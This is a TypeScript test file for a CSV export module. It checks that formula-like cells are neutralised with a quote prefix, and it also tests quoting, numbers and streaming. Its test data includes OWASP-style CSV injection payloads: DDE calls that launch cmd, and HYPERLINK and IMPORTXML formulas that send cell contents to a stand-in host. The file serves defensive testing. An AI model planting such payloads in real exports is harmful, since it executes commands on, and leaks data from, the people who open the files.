// The CSV writer: hostile cells (OWASP CSV injection payloads) come back from a real CSV parser as inert text,
// quoting survives commas, quotes and line breaks, and numbers stay numbers.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { csvCell, csvLines, csvRow, neutralize } from './csv-export.ts';

// Payloads from OWASP's CSV injection page and public write-ups (DDE, HYPERLINK exfiltration, IMPORTXML).
const FORMULAS = [
  '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '+cmd|\' /C notepad\'!\'B1\'', "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")', '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '\uFF1D1+1', ' =1+1', '\n=1+1', '\t', '\r', '-', '=', '@',
];

test('cells that a spreadsheet would evaluate are prefixed with a single quote, and parse back as that text', () => {
  for (const f of FORMULAS) {
    const line = csvRow(['x', f, 'y']);
    const [[a, cell, b]] = parse(line, { relax_quotes: false }) as string[][];
    assert.equal(a, 'x');
    assert.equal(b, 'y');
    assert.equal(cell, `'${f}`, JSON.stringify(f));
  }
});

test('ordinary text is quoted but unchanged, including quotes, separators and line breaks', () => {
  const cases = ['Kettle', 'He said "hi"', 'a,b;c', 'two\nlines', 'crlf\r\ninside', '', 'ümlaut 日本語', 'email@example.com', 'x=1', "'already quoted"];
  const line = csvRow(cases);
  assert.ok(line.endsWith('\r\n'));
  assert.deepEqual((parse(line) as string[][])[0], cases);
  assert.equal(csvCell('He said "hi"'), '"He said ""hi"""');
});

test('numbers, booleans, dates, lists and objects', () => {
  const when = new Date('2026-01-02T03:04:05.000Z');
  const [[n, neg, nan, yes, date, list, obj, nil, undef]] = parse(csvRow([12.5, -3, Number.NaN, true, when, ['a', '=b'], { a: '=1' }, null, undefined])) as string[][];
  assert.deepEqual([n, neg, nan, yes, date, nil, undef], ['12.5', '-3', '', 'true', '2026-01-02T03:04:05.000Z', '', '']);
  assert.equal(list, 'a|=b', 'a list whose first item is harmless does not start a formula');
  assert.equal(obj, '{"a":"=1"}');
  assert.equal(csvCell(['=x', 'y']), `"'=x|y"`);
  assert.equal(csvCell('-3'), `"'-3"`, 'text that looks like a negative number is still text');
  assert.equal(neutralize('safe'), 'safe');
});

test('csvLines streams a header and one line per record', async () => {
  const rows = [{ id: 1, title: '=evil()' }, { id: 2, title: 'fine' }];
  const text = (await Readable.from(csvLines([{ header: 'id', value: (r: typeof rows[0]) => r.id }, { header: 'title', value: (r) => r.title }], rows)).toArray()).join('');
  assert.deepEqual(parse(text), [['id', 'title'], ['1', "'=evil()"], ['2', 'fine']]);
});
